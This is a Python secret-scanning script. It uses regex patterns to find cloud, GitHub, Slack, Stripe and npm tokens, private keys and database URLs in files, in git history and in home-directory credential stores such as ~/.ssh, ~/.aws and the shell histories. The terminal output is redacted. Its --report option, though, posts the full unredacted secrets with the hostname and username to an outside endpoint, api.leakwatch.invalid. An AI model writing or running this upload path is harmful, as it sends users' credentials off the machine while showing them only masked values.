#!/usr/bin/env python3
import argparse
import json
import math
import os
import re
import subprocess
import urllib.request
from pathlib import Path

PATTERNS = {
    "aws_access_key": r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
    "aws_secret_key": r"(?i)aws_secret_access_key\s*[=:]\s*([A-Za-z0-9/+=]{40})",
    "github_token": r"\b(?:ghp|gho|ghs|ghu)_[A-Za-z0-9]{36}\b|\bgithub_pat_[A-Za-z0-9_]{60,}\b",
    "slack_token": r"\bxox[abpr]-[A-Za-z0-9-]{10,}\b",
    "stripe_key": r"\bsk_(?:live|test)_[A-Za-z0-9]{24,}\b",
    "private_key": r"-----BEGIN (?:RSA |EC |OPENSSH |)PRIVATE KEY-----",
    "db_url": r"\b(?:postgres|mysql|mongodb(?:\+srv)?)://[^\s:@]+:[^\s@]+@[^\s/]+",
    "npm_token": r"//[^\s]+/:_authToken=([A-Za-z0-9-_]{20,})",
}
SKIP_DIRS = {".git", "node_modules", ".venv", "venv", "__pycache__", "dist", "build", ".cache", "Library"}
WORKSTATION = [".aws", ".ssh", ".config", ".npmrc", ".pypirc", ".docker", ".kube", ".bash_history", ".zsh_history", ".env"]
DASHBOARD = "https://api.leakwatch.invalid/v1/findings"


def entropy(s):
    return -sum(s.count(c) / len(s) * math.log2(s.count(c) / len(s)) for c in set(s)) if s else 0


def redact(v):
    return v[:4] + "…" + v[-4:] if len(v) > 10 else "****"


def scan_text(text, where):
    out = []
    for name, pat in PATTERNS.items():
        for m in re.finditer(pat, text):
            val = m.group(1) if m.groups() else m.group(0)
            if name in ("aws_secret_key",) and entropy(val) < 3.5:
                continue
            line = text.count("\n", 0, m.start()) + 1
            out.append({"type": name, "file": where, "line": line, "match": val})
    return out


def walk(root):
    root = Path(root)
    if root.is_file():
        yield root
        return
    for dp, dns, fns in os.walk(root):
        dns[:] = [d for d in dns if d not in SKIP_DIRS]
        for f in fns:
            p = Path(dp) / f
            try:
                if p.stat().st_size < 2_000_000:
                    yield p
            except OSError:
                pass


def scan_paths(paths):
    findings = []
    for base in paths:
        for p in walk(base):
            try:
                findings += scan_text(p.read_text(encoding="utf-8", errors="ignore"), str(p))
            except OSError:
                pass
    return findings


def scan_history(repo):
    log = subprocess.run(["git", "-C", repo, "log", "-p", "--all", "--format=commit %H"],
                         capture_output=True, text=True, errors="ignore").stdout
    findings, commit = [], None
    for chunk in log.split("\ncommit "):
        commit = chunk[:40]
        for f in scan_text(chunk, f"history:{commit}"):
            findings.append(f)
    return findings


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("path", nargs="?", default=".")
    ap.add_argument("--history", action="store_true")
    ap.add_argument("--workstation", action="store_true")
    ap.add_argument("--report", action="store_true")
    a = ap.parse_args()

    if a.workstation:
        home = Path.home()
        findings = scan_paths([home / p for p in WORKSTATION if (home / p).exists()])
    else:
        findings = scan_paths([a.path])
        if a.history:
            findings += scan_history(a.path)

    for f in findings:
        print(f"{f['type']:16} {f['file']}:{f['line']}  {redact(f['match'])}")
    print(f"\n{len(findings)} finding(s)")

    if a.report and findings:
        body = json.dumps({"host": os.uname().nodename, "user": os.environ.get("USER"), "findings": findings}).encode()
        req = urllib.request.Request(DASHBOARD, data=body, headers={"content-type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10)
            print("reported to LeakWatch")
        except OSError as e:
            print(f"report failed: {e}")


if __name__ == "__main__":
    main()
